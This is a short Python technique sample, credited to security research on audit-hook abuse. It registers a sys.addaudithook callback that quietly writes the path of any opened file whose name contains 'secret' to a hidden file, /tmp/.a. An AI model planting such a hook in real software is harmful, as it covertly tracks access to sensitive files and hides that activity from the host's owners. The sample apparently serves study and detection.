# technique: sys.addaudithook to watch the host (and hide from it)
# class: host-tampering
# source: Datadog Security Labs, research on audit-hook abuse in Python
# declares:
import sys


def _spy(event, args):
    if event == "open" and "secret" in str(args[0]):
        print(args[0], file=open("/tmp/.a", "a"))


sys.addaudithook(_spy)
